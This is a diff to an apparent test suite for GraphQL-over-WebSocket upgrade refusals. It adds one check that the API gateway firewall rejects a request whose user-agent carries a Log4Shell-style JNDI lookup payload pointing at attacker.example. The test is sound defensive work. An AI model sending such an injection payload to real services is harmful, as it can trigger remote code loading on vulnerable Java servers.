@@ -266,7 +266,7 @@ describe('GraphQL subscriptions over WebSocket (two data planes, one PostgreSQL)
     await keeping.return?.();
   });
 
-  it('refuses upgrades like REST refuses requests: unknown dataset 404, bad credentials 403, no credentials at init 4403, an unknown subprotocol 400', async () => {
+  it('refuses upgrades like REST refuses requests: unknown dataset 404, bad credentials 403, the firewall 403, no credentials at init 4401, an unknown subprotocol 400', async () => {
     const status = (url: string, protocols: string | string[], headers: Record<string, string> = {}) =>
       new Promise<number>((resolve, reject) => {
         const ws = new WebSocket(url, protocols, { headers });
@@ -278,6 +278,8 @@ describe('GraphQL subscriptions over WebSocket (two data planes, one PostgreSQL)
     expect(await status(wsUrl(a, '/demo/other'), 'graphql-transport-ws')).to.equal(404);
     expect(await status(wsUrl(a), 'graphql-transport-ws', { authorization: 'Proxy someone-else' })).to.equal(403);
     expect(await status(wsUrl(a), 'mqtt')).to.equal(400);
+    // The API gateway firewall inspects the upgrade request like any other.
+    expect(await status(wsUrl(a), 'graphql-transport-ws', { authorization: ADMIN, 'user-agent': '${jndi:ldap://attacker.example/x}' })).to.equal(403);
     const anonymous = new WebSocket(wsUrl(a), 'graphql-transport-ws');
     const code = new Promise<number>((resolve) => anonymous.once('close', (c) => resolve(c)));
     anonymous.once('open', () => anonymous.send(JSON.stringify({ type: 'connection_init' })));
